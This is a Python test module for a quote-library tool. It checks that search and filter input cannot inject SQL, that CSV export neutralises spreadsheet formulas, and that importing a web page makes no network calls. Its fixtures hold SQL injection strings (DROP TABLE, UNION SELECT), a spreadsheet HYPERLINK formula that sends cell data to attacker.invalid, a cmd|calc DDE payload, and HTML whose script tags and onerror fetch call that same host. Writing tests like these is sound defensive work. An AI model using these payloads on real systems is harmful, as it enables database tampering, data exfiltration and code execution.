"""Typed input reaches SQLite only as parameters; exported cells never run as formulas.

Hostile search strings and filter values (SQL, FTS5 syntax, LIKE wildcards, quotes,
NUL, emoji) must neither raise nor widen a result beyond what they ask for. CSV export
must neutralise every cell a spreadsheet would evaluate, checked through ``onrecord
export`` on an article built to carry formulas in its quotes and metadata. A web page
full of remote resources is imported without a single network call.
"""

from __future__ import annotations

import csv
import json
import socket
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from adversarial_support import article, run_onrecord
from hypothesis import given
from hypothesis import strategies as st

from core.export import FORMULA_STARTS, safe_cell
from core.extract import extract
from core.library import Library
from core.search import FTS_WORD

SQL = [
    "' OR 1=1 --", '" OR ""="', "'; DROP TABLE quotes; --", "%", "_", "\\", "*", "NEAR(a b)",
    "bridge OR council", "AND", "NOT", "^", "-", ":", "text:bridge", "{text}: x", "(", ")",
    "\x00", "\U0001f600", "\u202e", "Roe%", "R_e", "' UNION SELECT sql FROM sqlite_master --",
]  # fmt: skip
VOCABULARY = ["bridge", "plan", "Roe", "Jane", "council", "spring", "we", "will", "see", "7"]
TYPED = st.lists(st.sampled_from(SQL + VOCABULARY) | st.text(max_size=6), max_size=6).map(" ".join)
ASCII_LOWER = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    """Twelve generated articles, one quote tagged, shared by the tests of this module."""
    lib = Library(tmp_path_factory.mktemp("injection") / "library.db")
    for n in range(12):
        lib.add_article(extract(article(n)), f"/articles/{n}.txt")
    quote = lib.quotes(limit=1)[0]
    lib.add_tag(quote.id, "budget")
    yield lib
    lib.close()


def fold(text: str) -> str:
    """Case and accents folded, as the FTS5 unicode61 tokenizer folds them."""
    decomposed = unicodedata.normalize("NFKD", text)
    return "".join(c for c in decomposed if not unicodedata.combining(c)).casefold()


def words(text: str) -> list[str]:
    """The words FTS5 would search for, folded."""
    return [fold(w) for w in FTS_WORD.findall(text)]


@given(TYPED)
def test_search_never_raises_nor_matches_beyond_its_words(library: Library, typed: str) -> None:
    found = library.quotes(search=typed, limit=10_000)
    assert library.count_quotes(search=typed) == len(found)
    wanted = words(typed)
    for row in found:
        haystack = fold(f"{row.text} {row.speaker_name or ''}")
        assert all(word in haystack for word in wanted), (typed, row.text)
    if not wanted:
        assert found == [] or len(found) == library.count_quotes()


@given(TYPED)
def test_speaker_filter_never_raises_nor_matches_beyond_its_text(
    library: Library, typed: str
) -> None:
    found = library.speakers(text=typed, limit=10_000)
    assert library.count_speakers(text=typed) == len(found)
    needle = typed.strip().translate(ASCII_LOWER)
    for row in found:
        forms = [row.name, row.role or "", *row.aliases]
        assert any(
            f.translate(ASCII_LOWER).startswith(needle) or f" {needle}" in f.translate(ASCII_LOWER)
            for f in forms
        ), (typed, forms)


@given(TYPED, TYPED, st.lists(st.sampled_from(SQL + ["person"]), max_size=3))
def test_filters_are_values_not_sql(
    library: Library, outlet: str, tag: str, kinds: list[str]
) -> None:
    for filters in ({"outlet": outlet}, {"tag": tag}, {"kinds": kinds}, {"date_from": outlet}):
        found = library.quotes(**filters, limit=10_000)
        assert library.count_quotes(**filters) == len(found)
        if "outlet" in filters and outlet:
            assert all(row.outlet == outlet for row in found)
        if "tag" in filters and tag:
            assert all(tag in row.tags for row in found)
        if "kinds" in filters and kinds:
            assert all(row.speaker_kind in kinds for row in found)
    assert library.integrity_ok()


def test_tables_survive_the_classic_payloads(library: Library) -> None:
    before = library.counts()
    for payload in SQL:
        library.quotes(search=payload, outlet=payload, tag=payload, kinds=[payload])
        library.speakers(text=payload, kinds=[payload])
        library.find_speaker(payload)
        library.speaker_names(payload)
    assert library.counts() == before


# --- CSV export ---------------------------------------------------------------------------

FORMULA_ARTICLE = (
    "Spreadsheet trap\n\n"
    '\u201c=HYPERLINK("http://attacker.invalid/?x="&A1, "Click me"),\u201d said Mayor Jane Roe.\n\n'
    "\u201c+1+cmd|' /C calc'!A0 is what they typed,\u201d Roe told reporters.\n\n"
    "\u201c-2+3 is a sum, @SUM(A1:A9) too,\u201d added John Doe, a council member.\n\n"
    "\u201c\tTabbed start, she said,\u201d Doe said.\n"
)
SIDECAR = {
    "title": "=1+1",
    "outlet": "@SUM(1,2)",
    "author": "-cmd",  # read as a byline, it loses the dash: a reporter's edit puts it back
    "url": "+http://attacker.invalid",
}


def test_csv_export_neutralises_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``onrecord article`` and ``export`` run in processes of their own (no other test
    runs them so); the import (test_bad_input and test_storage run it so) and the JSON
    export, the same command, run in this one: a fresh interpreter loading the models
    cost more than the article."""
    from core.cli import main

    source = tmp_path / "trap.txt"
    source.write_text(FORMULA_ARTICLE, encoding="utf-8")
    (tmp_path / "trap.meta.json").write_text(json.dumps(SIDECAR), encoding="utf-8")
    db = tmp_path / "library.db"
    assert main(["ingest", str(source), "--quiet", "--db", str(db)]) == 0
    assert run_onrecord("article", "edit", "1", "--author=-cmd", db=db).returncode == 0
    out = tmp_path / "quotes.csv"
    result = run_onrecord("export", "--format", "csv", "-o", out, db=db)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'=", "'+", "'-", "'\t"} <= {row["quote"][:2] for row in rows}
    assert all({"'=1+1", "'@SUM(1,2)", "'-cmd"} <= set(row.values()) for row in rows)
    capsys.readouterr()
    assert main(["export", "--format", "json", "--db", str(db)]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert {"=", "+", "-"} <= {r["quote"][:1] for r in exported}  # JSON keeps the text as is
    assert all({"=1+1", "@SUM(1,2)", "-cmd"} <= set(r.values()) for r in exported)


@given(st.text(max_size=20) | st.sampled_from([f"{c}x" for c in FORMULA_STARTS]))
def test_any_cell_is_safe(value: str) -> None:
    cell = safe_cell(value)
    assert not str(cell).startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)


# --- the network ------------------------------------------------------------------------

PAGE = """<html><head><meta charset="utf-8"><title>Bridge plan</title>
<base href="http://attacker.invalid/">
<link rel="stylesheet" href="http://attacker.invalid/s.css">
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/">
<script src="http://attacker.invalid/x.js"></script></head><body><article>
<p>The council approved the plan on Tuesday after a long debate in the town hall.</p>
<p><img src="http://attacker.invalid/pixel.png" onerror="fetch('http://attacker.invalid')">
\u201cWe will rebuild the bridge by the spring,\u201d said Mayor Jane Roe.</p>
<iframe src="http://attacker.invalid/frame"></iframe>
<p>Critics said the plan costs far too much for a town this size, and will vote no.</p>
</article></body></html>"""


def test_reading_and_importing_a_page_never_touches_the_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from core.ingest import ingest

    attempts: list[object] = []

    def refuse(*args: object, **_: object) -> None:
        attempts.append(args)
        raise OSError("On Record tried to use the network")

    for target, name in ((socket.socket, "connect"), (socket, "getaddrinfo"),
                         (socket, "create_connection")):  # fmt: skip
        monkeypatch.setattr(target, name, refuse)
    path = tmp_path / "page.html"
    path.write_text(PAGE, encoding="utf-8")
    with Library(tmp_path / "library.db") as library:
        report = ingest([path], library)
        assert report.failed == [] and len(report.imported) == 1
        [quote] = library.quotes()
        assert quote.text == "We will rebuild the bridge by the spring,"
        assert "attacker" not in library.article(quote.article_id).text
    assert attempts == []
